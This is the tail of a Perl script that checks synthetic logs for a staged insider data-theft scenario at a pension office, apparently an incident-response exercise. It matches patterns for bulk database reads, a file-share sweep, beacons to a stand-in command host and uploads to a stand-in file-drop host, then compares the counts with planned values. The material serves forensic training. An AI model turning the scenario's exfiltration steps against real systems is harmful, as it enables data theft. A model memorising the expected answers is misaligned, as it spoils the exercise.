			close $h;
		}
		chomp @l;
		return @l;
	}
	my @web = lines(map { "$L/web/$_" } qw(access.log.5.gz access.log.4.gz access.log.3.gz access.log.2.gz access.log.1 access.log));
	my (%walk, %views, %vday, $first, $last);
	for (@web) {
		my ($ip, $u, $ts, $path, $st, $bytes, $ua) =
			m{^(\S+) - (\S+) \[([^\]]+)\] "GET (\S+) HTTP/1\.1" (\d+) (\d+) "[^"]*" "([^"]*)"$} or next;
		$got{'web.healthz'}++ if $path eq '/healthz';
		if ($u eq $VICTIM && $path =~ m{^/api/persons/(\d+)$}) {
			if ($st == 200) { $walk{$1}++; $first //= $ts; $last = $ts } else { $got{'web.walk.probes_404'}++ }
		}
		if ($path =~ m{^/records/person/(\d+)$} && $st == 200) {
			my $id = $1;
			my ($day) = $ts =~ m{^(\d\d)/};
			$views{"$u.$day"}{$id}++;
			$got{'web.views'}++;
		}
		if ($path eq '/export/persons.csv?scope=all') { $got{'web.export.bytes'} = $bytes; $got{'web.export.time'} = $ts }
		if ($path =~ m{^/records/batch\?ids=(.*)}) { $got{'web.batch.ids'} = scalar split /,/, $1 }
	}
	$got{'web.walk.distinct'} = keys %walk;
	my @w = sort { $a <=> $b } keys %walk;
	$got{'web.walk.range'} = "$w[0]-$w[-1]";
	$got{'web.walk.first'} = $first;
	$got{'web.walk.last'} = $last;
	my @vc = sort { $a <=> $b } map { scalar keys %{$views{$_}} } grep { !/^\Q$VICTIM\E\.08$/ } keys %views;
	$got{'web.baseline.distinct_per_clerk_day'} = "$vc[0]-$vc[-1]";
	$got{'web.victim.distinct_views_0508'} = keys %{$views{"$VICTIM.08"} // {}};

	my @db = lines(map { sprintf("$L/db/postgresql-2015-05-%02d.log%s", $_, $_ <= 8 ? '.gz' : '') } 6 .. 11);
	for (@db) {
		$got{'db.victim.select_all.rows'} = $1 if /\] tanaka\.k\@nenkin LOG:  AUDIT: SESSION,\d+,1,READ,SELECT,,,SELECT \* FROM persons;,<not logged>,(\d+)$/;
		$got{'db.victim.copy'}++ if /\] tanaka\.k\@nenkin LOG:  AUDIT: SESSION,\d+,1,READ,COPY,,,"COPY persons\r$/;
		$got{'db.app.export.rows'} = $1 if /nenkin_app\@nenkin LOG:  AUDIT: .*FROM persons ORDER BY id",<not logged>,(\d+)$/;
		$got{'db.backup.copies'}++ if /postgres\@nenkin LOG:  AUDIT: SESSION,\d+,1,READ,COPY,,,"COPY public\./;
		$got{'db.clerk_sessions'}{$1}++ if /\[(\d+)\] (?:sato|suzuki|takahashi|watanabe|ito|yamamoto|nakamura|kobayashi|kato|yoshida|yamada|tanaka)\.\w+\@nenkin LOG:  connection authorized/;
	}
	$got{'db.clerk_sessions'} = keys %{$got{'db.clerk_sessions'} // {}};

	my (%swept, %sweep_fail);
	for (lines("$L/fileserver/audit.log")) {
		my ($ts, $u, $op, $res, $rest) = /^May  8 (\d\d:\d\d:\d\d) nenkin-fs01 smbd_audit: ([^|]*)\|[^|]*\|[^|]*\|pension\|([^|]*)\|([^|]*)\|(.*)$/ or next;
		next unless $u eq $VICTIM && $ts ge '18:55:00' && $ts le '19:07:00';
		$swept{$1}++ if $op eq 'openat' && $res eq 'ok' && $rest =~ m{^r\|(/srv/samba/pension/.*\.(?:xlsx|csv|sql))$};
		$sweep_fail{$rest}++ if $res ne 'ok';
	}
	$got{'smb.sweep.files'} = keys %swept;
	$got{'smb.sweep.failed_opens'} = keys %sweep_fail;

	my @px = lines(map { "$L/proxy/$_" } qw(access.log.5.gz access.log.4.gz access.log.3.gz access.log.2.gz access.log.1 access.log));
	my (@bt, @up);
	for (@px) {
		my @f = split ' ';
		next unless @f == 11;
		push @bt, $f[0] if $f[6] eq 'http://update-check.example/cgi-bin/check.cgi?';
		push @up, $f[10] if $f[5] eq 'POST' && $f[6] eq 'http://upload.filedrop.example/u/put.php';
		$got{'proxy.other_hosts_to_c2'}++ if $f[6] =~ /update-check|filedrop/ && $f[2] ne $IP{$VICTIM};
	}
	$got{'proxy.beacons'} = @bt;
	$got{'proxy.beacon.first'} = jst($bt[0]);
	$got{'proxy.beacon.last'} = jst($bt[-1]);
	my @gap = sort { $a <=> $b } map { $bt[$_] - $bt[$_ - 1] } 1 .. $#bt;
	$got{'proxy.beacon.gap'} = sprintf('%.1f-%.1f', $gap[0], $gap[-1]);
	$got{'proxy.uploads'} = @up;
	my $sum = 0;
	$sum += $_ for @up;
	$got{'proxy.upload.request_bytes'} = $sum;
	$got{'proxy.upload.sizes'} = join(' ', @up);
	$got{'proxy.other_hosts_to_c2'} //= 0;

	print "$_=$got{$_}\n" for sort keys %got;
	my $bad = 0;
	# Every entry lies in the week of the story: 6 May 00:00 to 11 May 08:00 JST.
	my $wrong = 0;
	for (@web) { $wrong++ unless m{^\S+ - \S+ \[(0[6-9]/May/2015:|10/May/2015:|11/May/2015:0[0-7])} }
	for (@db) { $wrong++ if /^\d{4}-/ && !/^2015-05-(0[6-9]|10|11 0[0-7])/ }
	for (@px) { my $t = (split ' ')[0]; $wrong++ if $t < $DAY0 || $t >= $END }
	for (lines("$L/fileserver/audit.log")) { $wrong++ unless /^May (?: [6-9] |10 |11 0[0-7])/ }
	if ($wrong) { print STDERR "regen: FAIL $wrong entries are outside the story's week\n"; $bad = 1 }
	my %same = ('web.healthz' => 'web.healthz', 'web.batch.ids' => 'web.batch.ids',
		'proxy.beacons' => 'proxy.beacons', 'proxy.uploads' => 'proxy.uploads',
		'smb.sweep.files' => 'smb.sweep.files', 'db.app.export.rows' => 'pg.export.rows');
	for my $k (sort keys %same) {
		next if ($got{$k} // '') eq ($plan{$same{$k}} // '');
		print STDERR "regen: FAIL $k: drove $plan{$same{$k}}, the logs say " . ($got{$k} // 'nothing') . "\n";
		$bad = 1;
	}
	my $walk_n = $plan{'web.walk.last'} - $plan{'web.walk.first'} + 1;
	for ([ 'web.walk.distinct', $walk_n ], [ 'db.victim.select_all.rows', $LAST - $FIRST + 1 ],
		[ 'db.victim.copy', 1 ], [ 'proxy.other_hosts_to_c2', 0 ], [ 'db.backup.copies', 3 * $plan{'pg.backups'} ]) {
		next if ($got{$_->[0]} // '') eq $_->[1];
		print STDERR "regen: FAIL $_->[0]: expected $_->[1], the logs say " . ($got{$_->[0]} // 'nothing') . "\n";
		$bad = 1;
	}
	if (!($sum > $plan{'proxy.upload.body_bytes'} && $sum < $plan{'proxy.upload.body_bytes'} + 5 * 2048)) {
		print STDERR "regen: FAIL upload bytes $sum against bodies of $plan{'proxy.upload.body_bytes'}\n";
		$bad = 1;
	}
	exit $bad;
}
die "regen.pl: unknown mode $mode\n";
